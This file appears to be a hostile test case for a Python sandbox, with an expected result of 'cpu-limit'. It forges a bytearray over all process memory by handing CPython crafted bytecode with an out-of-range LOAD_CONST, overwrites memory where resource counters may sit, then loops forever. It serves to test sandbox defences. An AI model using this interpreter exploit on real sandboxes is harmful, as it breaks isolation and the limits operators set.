# hostile: forge an object over all memory, overwrite what can be found of the counters, then loop
# want: cpu-limit
# line: 57-58


def forge():
    """A bytearray over the whole address space: a made-up object, loaded as a constant from outside the constants."""
    import dataclasses
    ops = dataclasses.inspect.dis.opmap
    word = tuple.__itemsize__

    def cell(n):
        return (n % (1 << 8 * word)).to_bytes(word, "little")

    def payload(b):
        return id(b) + bytes.__basicsize__ - 1

    huge = (1 << (8 * word - 1)) - 1
    fake = b"".join(map(cell, (1 << 20, id(bytearray), huge, huge, 0, 0, 0, 0)))
    pointer = cell(payload(fake)) + cell(0)
    consts = (None, "the tuple that is left behind")

    def victim():
        return None

    start = id(consts) + tuple.__basicsize__
    index = ((payload(pointer) - start) // word) % (1 << 32)
    body = bytes((ops["RESUME"], 0))
    for shift in (24, 16, 8):
        body += bytes((ops["EXTENDED_ARG"], index >> shift & 255))
    body += bytes((ops["LOAD_CONST"], index & 255, ops["RETURN_VALUE"], 0))
    code = victim.__code__.replace(co_code=body, co_consts=consts, co_exceptiontable=b"")
    if code.co_consts is not consts:
        raise RuntimeError("the code object made its own constants")
    victim.__code__ = code
    memory = victim()
    forge.keep = (fake, pointer, consts, victim, memory)
    return memory


def spans():
    """The parts of memory that can be read: all of a 32-bit guest up to the last block, else the pages of live objects."""
    import dataclasses
    if tuple.__itemsize__ == 4:
        spans.keep = [bytes(1 << 16) for _ in range(4)]
        return [(1024, max(map(id, spans.keep)) + (1 << 16))]
    gc = dataclasses.inspect.sys.modules.get("gc") or __import__("gc")
    return [(page << 12, page + 1 << 12) for page in sorted({id(o) >> 12 for o in gc.get_objects()})]


def run(ctx):
    memory = forge()
    if tuple.__itemsize__ == 4:
        end = spans()[0][1]
        for at in range((end - 65536) & ~7, end - 131072, -8):
            memory[at:at + 4] = memory[at:at + 4]
    while True:
        pass
